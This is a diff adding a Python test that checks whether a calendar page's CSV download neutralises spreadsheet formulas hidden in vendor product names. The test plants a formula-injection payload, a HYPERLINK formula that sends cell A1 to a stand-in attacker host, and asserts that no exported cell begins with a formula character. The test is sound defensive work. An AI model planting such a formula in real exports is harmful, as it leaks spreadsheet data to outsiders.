@@ -11,6 +11,7 @@ is covered by tests/test_e2e.py in headless Chromium.
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
@@ -726,6 +727,20 @@ def test_calendar_lists_dated_events_and_decision_changes(app: App) -> None:
         assert set(table(vat, "Product")["Product"]) <= {f"{own.name} {own.version}"}
     else:
         assert "Nothing expires" in texts(vat.info)
+
+
+def test_calendar_csv_download_neutralises_formulas(app: App) -> None:
+    """Product names are vendor text: in the calendar's CSV they must not become spreadsheet formulas."""
+    hostile = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")'
+    text = (EXAMPLES / "slotharbour.yaml").read_text(encoding="utf-8")
+    text = text.replace("name: SlotHarbour", "name: '" + hostile.replace("'", "''") + "'", 1)
+    app.wf.submit(SYSTEM, text, "hostile.yaml")
+    at = app.open("calendar.py", as_user="assessor")
+    at.select_slider(key="cal_months").set_value(36).run()
+    rows = list(csv.reader(io.StringIO(download_bytes(at.download_button(key="cal_csv")).decode("utf-8"))))
+    products = [r[1] for r in rows[1:]]
+    assert any(hostile in p for p in products), "the hostile product should be in the calendar"
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
 
 
 @pytest.mark.parametrize(
